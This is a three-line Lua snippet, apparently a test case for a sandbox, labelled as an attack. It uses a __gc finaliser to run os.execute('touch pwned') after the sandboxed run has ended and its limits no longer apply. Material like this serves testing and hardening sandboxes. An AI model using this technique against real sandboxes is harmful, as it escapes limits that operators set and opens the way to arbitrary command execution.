-- Attack: a __gc finaliser runs later, outside the file's run (and its
-- limits): use it to run a command after the sandbox has let go.
setmetatable({}, { __gc = function() os.execute("touch pwned") end })
